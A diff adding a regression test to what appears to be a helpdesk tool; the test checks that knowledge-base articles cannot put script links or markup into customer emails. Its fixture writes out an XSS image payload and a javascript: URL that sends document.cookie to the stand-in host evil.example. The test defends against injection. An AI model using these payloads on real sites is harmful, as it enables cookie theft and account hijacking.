@@ -334,3 +334,18 @@ def test_kb_commands_need_a_knowledge_base(desk_factory):
     desk = desk_factory()
     result = desk.cli("kb", "check")
     assert result.returncode == 2 and "knowledge_base.path" in result.stderr
+
+
+def test_an_article_never_puts_a_script_link_or_markup_into_customers_mail(desk_factory, tmp_path):
+    # `kb check` names a url that is not an absolute http(s) link, but the daemon used
+    # it anyway: one careless (or planted) article put a javascript: link into every
+    # acknowledgement it was suggested in.
+    desk = kb_desk(desk_factory, tmp_path)
+    (tmp_path / "kb" / "hardware" / "printer.md").write_text(PRINTER.replace(
+        "title: What to do when the printer smokes",
+        'title: What to do when the printer smokes <img src=x onerror=alert(1)>\n'
+        'url: "javascript:fetch(\'//evil.example/\'+document.cookie)"'))
+    ref = open_case(desk)
+    html = html_of(ack_of(desk, ref))
+    assert "javascript:" not in html and "<img" not in html and "&lt;img" in html
+    assert f'<a href="{KB_URL}/hardware/printer"' in html  # base_url/<slug> instead
